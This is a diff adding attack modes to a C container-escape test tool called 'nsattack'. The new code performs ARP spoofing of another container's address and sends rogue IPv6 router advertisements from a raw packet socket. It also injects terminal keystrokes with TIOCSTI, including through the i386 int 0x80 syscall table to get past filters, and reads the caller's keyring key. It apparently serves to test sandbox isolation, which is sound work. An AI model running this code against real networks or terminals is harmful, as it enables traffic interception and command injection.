@@ -640,6 +640,238 @@ static void do_status_like(int pid) {
     }
 }
 
+/* network: attacks on the other containers of a bridge, from a packet socket (CAP_NET_RAW). */
+#include <linux/if_packet.h>
+#include <net/ethernet.h>
+#include <net/if.h>
+#include <poll.h>
+
+/* A packet socket bound to IFACE; its index and MAC through *index and mac. -1 when refused. */
+static int packet_socket(const char *iface, int proto, int *index, unsigned char mac[6], const char *what) {
+    int s = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(proto));
+    if (s < 0) { blocked_errno(what); return -1; }
+    struct ifreq ifr = {0};
+    snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", iface);
+    if (ioctl(s, SIOCGIFINDEX, &ifr) != 0) { printf("INFO %s: no index: %s\n", iface, strerror(errno)); close(s); return -1; }
+    *index = ifr.ifr_ifindex;
+    if (ioctl(s, SIOCGIFHWADDR, &ifr) != 0) { printf("INFO %s: no MAC: %s\n", iface, strerror(errno)); close(s); return -1; }
+    memcpy(mac, ifr.ifr_hwaddr.sa_data, 6);
+    struct sockaddr_ll ll = {.sll_family = AF_PACKET, .sll_protocol = htons(proto), .sll_ifindex = *index};
+    if (bind(s, (struct sockaddr *)&ll, sizeof ll) != 0) { blocked_errno(what); close(s); return -1; }
+    return s;
+}
+
+static void send_frame(int s, int index, const unsigned char *frame, size_t len) {
+    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = index, .sll_halen = 6};
+    memcpy(to.sll_addr, frame, 6);
+    if (sendto(s, frame, len, 0, (struct sockaddr *)&to, sizeof to) < 0) printf("INFO sendto: %s\n", strerror(errno));
+}
+
+/* arp-spoof IFACE VICTIM MS: claim the IPv4 address VICTIM (another container's) with
+ * gratuitous ARP requests and replies, for up to MS milliseconds, and wait for a packet sent
+ * to VICTIM to arrive here instead of there. */
+static void do_arp_spoof(const char *iface, const char *victim, int ms) {
+    const char *what = "ARP spoofing another container (a packet socket needs CAP_NET_RAW)";
+    int index;
+    unsigned char mac[6];
+    struct in_addr ip;
+    if (inet_pton(AF_INET, victim, &ip) != 1) { fprintf(stderr, "nsattack: bad address %s\n", victim); exit(2); }
+    int s = packet_socket(iface, ETH_P_ALL, &index, mac, what);
+    if (s < 0) return;
+    printf("INFO packet socket open on %s, MAC %02x:%02x:%02x:%02x:%02x:%02x\n", iface, mac[0], mac[1], mac[2], mac[3], mac[4], mac[5]);
+    unsigned char frame[42];
+    long end = now_ms() + ms, next = 0;
+    int sent = 0;
+    while (now_ms() < end) {
+        if (now_ms() >= next) {
+            for (int op = 1; op <= 2; op++) { /* a request, then a reply: both are gratuitous */
+                memset(frame, 0xff, 6);
+                memcpy(frame + 6, mac, 6);
+                frame[12] = 0x08; frame[13] = 0x06;
+                unsigned char arp[28] = {0, 1, 8, 0, 6, 4, 0, (unsigned char)op};
+                memcpy(arp + 8, mac, 6);
+                memcpy(arp + 14, &ip, 4);
+                memset(arp + 18, op == 1 ? 0 : 0xff, 6);
+                memcpy(arp + 24, &ip, 4);
+                memcpy(frame + 14, arp, 28);
+                send_frame(s, index, frame, sizeof frame);
+                sent++;
+            }
+            next = now_ms() + 300;
+        }
+        struct pollfd p = {.fd = s, .events = POLLIN};
+        if (poll(&p, 1, 50) <= 0) continue;
+        unsigned char in[2048];
+        ssize_t n = recv(s, in, sizeof in, 0);
+        /* An IPv4 packet to VICTIM, sent to this container's MAC. */
+        if (n >= 34 && !memcmp(in, mac, 6) && in[12] == 0x08 && in[13] == 0x00 && !memcmp(in + 30, &ip, 4)) {
+            char from[INET_ADDRSTRLEN], detail[200];
+            inet_ntop(AF_INET, in + 26, from, sizeof from);
+            snprintf(detail, sizeof detail, "after %d gratuitous ARPs, a packet from %s to %s arrived here", sent, from, victim);
+            escape("take over another container's address by ARP spoofing", detail);
+            close(s);
+            return;
+        }
+    }
+    printf("INFO %d gratuitous ARPs sent\n", sent);
+    blocked("take over another container's address by ARP spoofing", "no packet for it arrived here");
+    close(s);
+}
+
+static unsigned short csum_add(unsigned long sum, const unsigned char *p, size_t len) {
+    for (size_t i = 0; i + 1 < len; i += 2) sum += (p[i] << 8) | p[i + 1];
+    if (len & 1) sum += p[len - 1] << 8;
+    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
+    return (unsigned short)sum;
+}
+
+/* ra IFACE PREFIX: send a router advertisement to ff02::1 (all nodes): PREFIX/64 for
+ * autoconfiguration, and this container as the default router. The test looks at what the
+ * host's bridge and another container made of it; here it is only INFO. */
+static void do_ra(const char *iface, const char *prefix) {
+    int index;
+    unsigned char mac[6], net[16];
+    if (inet_pton(AF_INET6, prefix, net) != 1) { fprintf(stderr, "nsattack: bad prefix %s\n", prefix); exit(2); }
+    int s = packet_socket(iface, ETH_P_IPV6, &index, mac, "send a router advertisement (a packet socket needs CAP_NET_RAW)");
+    if (s < 0) return;
+    unsigned char f[14 + 40 + 16 + 8 + 32] = {0x33, 0x33, 0, 0, 0, 1};
+    memcpy(f + 6, mac, 6);
+    f[12] = 0x86; f[13] = 0xdd;
+    unsigned char *ip6 = f + 14, *icmp = ip6 + 40;
+    size_t icmp_len = 16 + 8 + 32;
+    ip6[0] = 0x60;
+    ip6[4] = icmp_len >> 8; ip6[5] = icmp_len & 0xff;
+    ip6[6] = 58;   /* ICMPv6 */
+    ip6[7] = 255;  /* the hop limit a router advertisement must have */
+    unsigned char src[16] = {0xfe, 0x80, [8] = mac[0] ^ 2, mac[1], mac[2], 0xff, 0xfe, mac[3], mac[4], mac[5]};
+    unsigned char dst[16] = {0xff, 0x02, [15] = 1};
+    memcpy(ip6 + 8, src, 16);
+    memcpy(ip6 + 24, dst, 16);
+    unsigned char ra[16] = {134, 0, 0, 0, 64, 0, 0x07, 0x08}; /* router lifetime 1800 s */
+    memcpy(icmp, ra, 16);
+    unsigned char sll[8] = {1, 1};                             /* source link-layer address */
+    memcpy(sll + 2, mac, 6);
+    memcpy(icmp + 16, sll, 8);
+    unsigned char pi[32] = {3, 4, 64, 0xc0,                    /* prefix information: on-link, autonomous */
+                            0x00, 0x01, 0x51, 0x80,            /* valid 86400 s */
+                            0x00, 0x00, 0x38, 0x40};           /* preferred 14400 s */
+    memcpy(pi + 16, net, 16);
+    memcpy(icmp + 24, pi, 32);
+    unsigned char pseudo[40] = {0};
+    memcpy(pseudo, src, 16);
+    memcpy(pseudo + 16, dst, 16);
+    pseudo[34] = icmp_len >> 8; pseudo[35] = icmp_len & 0xff;
+    pseudo[39] = 58;
+    unsigned long sum = csum_add(0, pseudo, sizeof pseudo);
+    unsigned short c = ~csum_add(sum, icmp, icmp_len);
+    icmp[2] = c >> 8; icmp[3] = c & 0xff;
+    for (int i = 0; i < 3; i++) {
+        send_frame(s, index, f, sizeof f);
+        usleep(300000);
+    }
+    printf("INFO 3 router advertisements sent on %s for %s/64\n", iface, prefix);
+    close(s);
+}
+/* end of network */
+/* terminal and keyring (issue 13, items 2 and 6) */
+#include <sys/mman.h>
+#include <sys/syscall.h>
+
+/* An i386 system call through `int 0x80` (arguments must be 32-bit addresses). */
+static long int80(long nr, long a, long b, long c) {
+    long ret;
+    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
+    return ret;
+}
+
+/* TIOCSTI of TEXT through the i386 table, in a child: a filter may kill it. */
+static void tty_int80(int fd, const char *text) {
+    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
+    if (low == MAP_FAILED) { printf("INFO mmap MAP_32BIT: %s\n", strerror(errno)); return; }
+    pid_t pid = fork();
+    if (pid == 0) {
+        for (const char *c = text; *c; c++) {
+            low[0] = *c;
+            long rc = int80(54 /* i386 ioctl */, fd, TIOCSTI, (long)(unsigned long)low);
+            if (rc != 0) _exit(rc < 0 && rc > -4096 ? (int)-rc : 100);
+        }
+        _exit(0);
+    }
+    int status = 0;
+    waitpid(pid, &status, 0);
+    const char *what = "TIOCSTI through int 0x80 (i386 table)";
+    if (WIFEXITED(status) && WEXITSTATUS(status) == 0) escape(what, "keystrokes pushed into the terminal");
+    else if (WIFSIGNALED(status)) { char d[64]; snprintf(d, sizeof d, "killed by signal %d", WTERMSIG(status)); blocked(what, d); }
+    else { char d[64]; snprintf(d, sizeof d, "errno %d (%s)", WEXITSTATUS(status), strerror(WEXITSTATUS(status))); blocked(what, d); }
+}
+
+/* tty MARKER: every way of acting on the terminal at fd 0. The test checks the effects itself
+ * (bytes in the terminal's input, window size, line discipline): MARKER is never printed.
+ * TIOCSETD comes last, as N_NULL silences the terminal this program writes to. */
+static void do_tty(const char *marker) {
+    if (!isatty(0)) { printf("INFO fd 0 is not a terminal\n"); exit(2); }
+    char text[128];
+    snprintf(text, sizeof text, "%sN\n", marker);
+    int ok = 1;
+    for (const char *c = text; *c; c++) if (ioctl(0, TIOCSTI, c) != 0) { ok = 0; break; }
+    if (ok) escape("TIOCSTI (CVE-2017-5226)", "keystrokes pushed into the terminal");
+    else blocked_errno("TIOCSTI (CVE-2017-5226)");
+    snprintf(text, sizeof text, "%sI\n", marker);
+    tty_int80(0, text);
+    /* TIOCLINUX needs a virtual console: on a pty the kernel's tty layer answers ENOTTY, and
+     * only a filter answers EPERM (the test tells the two apart). */
+    char sub[2] = {3 /* TIOCL_PASTESEL */, 0};
+    if (ioctl(0, TIOCLINUX, sub) == 0) escape("TIOCLINUX (CVE-2023-1523)", "pasted into the console");
+    else if (errno == EPERM) blocked_errno("TIOCLINUX (CVE-2023-1523)");
+    else printf("INFO TIOCLINUX reached the tty layer: %s\n", strerror(errno));
+    struct winsize ws = {.ws_row = 11, .ws_col = 13};
+    if (ioctl(0, TIOCSWINSZ, &ws) == 0) escape("TIOCSWINSZ", "the terminal's window size changed");
+    else blocked_errno("TIOCSWINSZ");
+    int fd = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
+    if (fd >= 0) { printf("INFO /dev/tty opens: a controlling terminal\n"); close(fd); }
+    else printf("INFO /dev/tty: %s\n", strerror(errno));
+    printf("INFO trying TIOCSETD N_NULL\n");
+    fflush(stdout);
+    int null_ldisc = 27;
+    if (ioctl(0, TIOCSETD, &null_ldisc) == 0) escape("TIOCSETD N_NULL", "the terminal is dead");
+    else blocked_errno("TIOCSETD N_NULL");
+}
+
+/* keyring-session DESC VALUE CMD...: on the host side, a new session keyring holding the
+ * `user` key DESC=VALUE (as `keyctl session - ; keyctl add user DESC VALUE @s`), its serial
+ * number in NSC_KEY_ID, then exec CMD. */
+static int do_keyring_session(const char *desc, const char *value, char **cmd) {
+    if (syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, NULL) < 0) { perror("nsattack: keyctl join"); return 2; }
+    long key = syscall(SYS_add_key, "user", desc, value, strlen(value), -3 /* @s */);
+    if (key < 0) { perror("nsattack: add_key"); return 2; }
+    char id[32];
+    snprintf(id, sizeof id, "%ld", key);
+    setenv("NSC_KEY_ID", id, 1);
+    execvp(cmd[0], cmd);
+    perror("nsattack: exec");
+    return 2;
+}
+
+/* keyring DESC: the caller's `user` key DESC must be out of reach, by search from the session
+ * keyring and by its serial number (NSC_KEY_ID, when the caller passed it down). */
+static void do_keyring(const char *desc) {
+    char buf[256];
+    long key = syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, -3 /* @s */, "user", desc, 0);
+    if (key < 0) blocked_errno("find the caller's key from the session keyring");
+    else {
+        long n = syscall(SYS_keyctl, 11 /* KEYCTL_READ */, key, buf, sizeof buf - 1);
+        if (n >= 0) { buf[n < (long)sizeof buf ? n : (long)sizeof buf - 1] = 0; escape("read the caller's key found from the session keyring", buf); }
+        else blocked_errno("read the caller's key found from the session keyring");
+    }
+    const char *id = getenv("NSC_KEY_ID");
+    if (id && *id) {
+        long n = syscall(SYS_keyctl, 11 /* KEYCTL_READ */, atol(id), buf, sizeof buf - 1);
+        if (n >= 0) { buf[n < (long)sizeof buf ? n : (long)sizeof buf - 1] = 0; escape("read the caller's key by its serial number", buf); }
+        else blocked_errno("read the caller's key by its serial number");
+    } else printf("INFO NSC_KEY_ID is not set: no read by serial number\n");
+}
+/* end of terminal and keyring */
+
 int main(int argc, char **argv) {
     setvbuf(stdout, NULL, _IOLBF, 0);
     if (argc < 2) { fprintf(stderr, "usage: nsattack MODE ARGS\n"); return 2; }
@@ -659,6 +891,13 @@ int main(int argc, char **argv) {
     else if (!strcmp(m, "devnull")) do_devnull();
     else if (!strcmp(m, "mksysv") && argc == 3) do_mksysv((key_t)strtol(argv[2], NULL, 0));
     else if (!strcmp(m, "sethostname") && argc == 3) do_sethostname(argv[2]);
+    /* network */
+    else if (!strcmp(m, "arp-spoof") && argc == 5) do_arp_spoof(argv[2], argv[3], atoi(argv[4]));
+    else if (!strcmp(m, "ra") && argc == 4) do_ra(argv[2], argv[3]);
+    /* end of network */
+    else if (!strcmp(m, "tty") && argc == 3) do_tty(argv[2]); /* terminal */
+    else if (!strcmp(m, "keyring") && argc == 3) do_keyring(argv[2]); /* keyring */
+    else if (!strcmp(m, "keyring-session") && argc >= 5) return do_keyring_session(argv[2], argv[3], argv + 4); /* keyring */
     else if (!strcmp(m, "sleep") && argc >= 3) { usleep(atoi(argv[2]) * 1000); }
     /* join */
     else if (!strcmp(m, "root-watch") && argc == 6) do_root_watch(atoi(argv[2]), argv[3], argv[4], argv[5]);
